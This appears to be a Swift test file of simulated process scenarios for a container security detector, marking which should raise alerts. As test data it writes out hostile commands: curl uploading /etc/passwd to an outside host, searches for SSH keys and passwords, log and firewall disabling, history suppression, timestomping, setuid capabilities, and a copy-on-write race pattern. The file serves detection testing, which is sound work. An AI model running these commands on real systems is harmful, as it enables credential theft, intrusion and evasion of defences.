import Model

extension Scenario {
  private static func server(_ s: inout Stream, _ words: [String] = ["php-fpm8.2"]) -> ProcessRecord {
    let server = s.run(words, below: s.run("tini"))
    s.listen(server, 9000)
    return server
  }
  private static func package(_ s: inout Stream) -> ProcessRecord {
    s.run("dpkg", "--configure", "-a", below: s.run("apt-get", "install", "x", below: s.run("bash")))
  }

  static let tools: [Scenario] = [
    .alert("program.egress-tool", .high, "a web application downloads from an address") { s in
      s.run("curl", "-s", "http://203.0.113.9:8000/x", below: s.run("sh", "-c", "x", below: server(&s)))
    },
    .alert("program.egress-tool", .high, "it sends a file") { s in
      s.run("curl", "-F", "f=@/etc/passwd", "https://drop.example", below: server(&s))
    },
    .alert("program.egress-tool", .medium, "an application that uses curl") { s in
      s.run("curl", "https://api.example/v1", below: server(&s))
    },
    .harmless("program.egress-tool", "an entrypoint fetches its configuration") { s in
      s.run("curl", "-o", "/tmp/config", "http://203.0.113.9/c", below: s.run("sh", "/entrypoint.sh"))
    },
    .harmless("program.egress-tool", "a health check from outside") { s in
      _ = server(&s)
      s.run("curl", "-f", "http://localhost/") { $0.login = Login(way: .engineExecution) }
    },
    .alert("shell.by-service", .high, "a cache starts a shell") { s in
      s.run("sh", "-c", "id", below: s.run("redis-server", below: s.run("tini")))
    },
    .alert("shell.by-service", .high, "COPY … FROM PROGRAM") { s in
      s.run("sh", "-c", "id", below: s.run("postgres", below: s.run("postgres")))
    },
    .harmless("shell.by-service", "a database archives its log") { s in
      let archiver = s.run("postgres", below: s.run("postgres"))
      s.run("sh", "-c", "test ! -f /arch/0001 && cp pg_wal/0001 /arch/0001", below: archiver)
      s.run("sh", "-c", "locale -a", below: archiver)
    },
    .harmless("shell.by-service", "an application server") { s in s.run("sh", "-c", "convert a b", below: server(&s)) },
    .alert("program.masquerade", .high, "a kernel thread in a container") { s in
      s.run(["[kworker/0:1]"], below: s.run("nginx"), program: "/usr/bin/perl")
    },
    .alert("program.masquerade", .high, "a name of dots") { s in s.run("/var/tmp/...", below: s.run("nginx")) },
    .harmless("program.masquerade", "test") { s in
      s.run("[", "-f", "/x", "]", below: s.run("sh", "/entry"), program: "/usr/bin/[")
    },
    .alert("credential.search", .medium, "find looks for keys") { s in
      s.run("find", "/", "-name", "id_rsa*", below: s.run("sh", below: s.run("nginx")))
    },
    .alert("credential.search", .medium, "grep looks everywhere") { s in
      s.run("grep", "-ri", "password", "/var/www", below: s.run("nginx"))
    },
    .alert("credential.search", .medium, "a key is copied") { s in
      s.read(s.run("cat", below: s.run("nginx")), "/root/.ssh/id_ed25519")
    },
    .alert("credential.search", .medium, "another's environment") { s in
      s.run("cat", "/proc/1/environ", below: s.run("nginx"))
    },
    .harmless("credential.search", "ssh reads its own key") { s in s.read(s.run("ssh", "host"), "/root/.ssh/id_rsa") },
    .harmless("credential.search", "grep in one file") { s in s.run("grep", "-q", "password", "/etc/app.conf") },
    .harmless("credential.search", "a public key") { s in
      s.run("cat", "/root/.ssh/id_rsa.pub")
      s.read(s.run("cat"), "/root/.ssh/id_rsa.pub")
    },
    .alert("hiding.defences-disabled", .high, "the system log is stopped") { s in
      s.run("systemctl", "stop", "rsyslog", below: s.run("nginx"))
    },
    .alert("hiding.defences-disabled", .medium, "the firewall is flushed") { s in
      s.run("iptables", "-F", below: s.run("nginx"))
    },
    .alert("hiding.defences-disabled", .medium, "no history") { s in
      s.run("bash", "-c", "unset HISTFILE; id", below: s.run("nginx"))
    },
    .harmless("hiding.defences-disabled", "a mesh sets its rules up", atMost: .low) { s in
      s.run("iptables", "-t", "nat", "-F", below: s.run("sh", "/init.sh"))
    },
    .harmless("hiding.defences-disabled", "a service restarts its own") { s in
      s.run("service", "nginx", "stop", below: s.run("sh", "/x.sh"))
      s.run("iptables", "-L", below: s.run("nginx"))
    },
    .alert("hiding.timestomp", .medium, "another file's time") { s in
      s.run("touch", "-r", "/bin/ls", "/usr/bin/backdoor", below: s.run("nginx"))
    },
    .alert("hiding.timestomp", .medium, "code that sets times") { s in
      let code = s.run("python3", "-c", "import os;os.utime(...)", below: s.run("nginx"))
      s.call(code, "utimensat", [0, 0, 0x7fff_0000, 0], "/usr/bin/backdoor")
    },
    .harmless("hiding.timestomp", "an archive is unpacked") { s in
      s.call(s.run("tar", "xf", "a.tar"), "utimensat", [0, 0, 0x7fff_0000, 0], "/usr/share/a")
    },
    .harmless("hiding.timestomp", "touch makes a file") { s in
      s.run("touch", "/var/www/html/.installed", below: s.run("nginx"))
      s.run("touch", "-d", "2020-01-01", "/work/build/x", below: s.run("make"))
    },
    .alert("privilege.file-capabilities", .high, "setuid for an interpreter") { s in
      s.run("setcap", "cap_setuid+ep", "/usr/bin/python3.11", below: s.run("nginx"))
    },
    .harmless("privilege.file-capabilities", "a low port", atMost: .low) { s in
      s.run("setcap", "cap_net_bind_service=+ep", "/usr/bin/caddy", below: s.run("nginx"))
    },
    .harmless("privilege.file-capabilities", "a package") { s in
      s.run("setcap", "cap_net_raw+ep", "/bin/ping", below: package(&s))
    },
    .alert("privilege.cow-race", .high, "the classic") { s in
      let racer = s.run("/tmp/dirty", below: s.run("bash")) { $0.user = 1000 }
      s.call(racer, "openat", [0, 0, 2], "/proc/self/mem", result: 3)
      s.call(racer, "madvise", [0x7f00_0000, 100, 4])
    },
    .alert("privilege.cow-race", .high, "by ptrace") { s in
      let racer = s.run("/tmp/dirty", below: s.run("bash")) { $0.user = 1000 }
      s.call(racer, "madvise", [0x7f00_0000, 100, 4])
      for _ in 0..<80 { s.call(racer, "ptrace", [4, 77, 0, 0]) }
    },
    .alert("privilege.cow-race", .high, "by ptrace, where madvise is not seen") { s in
      let racer = s.run("/tmp/dirty", below: s.run("bash")) { $0.user = 1000 }
      for _ in 0..<600 { s.call(racer, "ptrace", [4, 77, 0, 0]) }
    },
    .harmless("privilege.cow-race", "a debugger sets breakpoints") { s in
      let gdb = s.run("gdb", "-p", "7")
      for _ in 0..<100 { s.call(gdb, "ptrace", [4, 7, 0, 0]) }
    },
    .harmless("privilege.cow-race", "an allocator") { s in
      let app = s.run("/usr/bin/app")
      for _ in 0..<20 { s.call(app, "madvise", [0x7f00_0000, 100, 4]) }
    },
    .harmless("privilege.cow-race", "a compiler writes its code so") { s in
      s.call(s.run("julia", "x.jl"), "openat", [0, 0, 2], "/proc/self/mem", result: 3)
    },
    .alert("escape.usermode-helper", .critical, "release_agent runs a file of a container") { s in
      s.run("/var/lib/docker/overlay2/abc/diff/cmd", below: kernel(&s)) { $0.isOutside = true }
    },
    .alert("escape.usermode-helper", .high, "a helper that nobody knows") { s in
      s.run("/opt/helper", below: kernel(&s)) { $0.isOutside = true }
    },
    .harmless("escape.usermode-helper", "a module is loaded") { s in
      s.run("/sbin/modprobe", "-q", "--", "net-pf-16", below: kernel(&s)) { $0.isOutside = true }
    },
    .harmless("escape.usermode-helper", "a service of the host") { s in
      let systemd = s.run("/lib/systemd/systemd") { $0.isOutside = true }
      s.run("/opt/agent", below: systemd) { $0.isOutside = true }
    },
  ]

  /// kthreadd.
  private static func kernel(_ s: inout Stream) -> ProcessRecord {
    ProcessRecord(ProcessRecord.Facts(key: ProcessKey(pid: 2, start: 1)), parent: nil)
  }
}
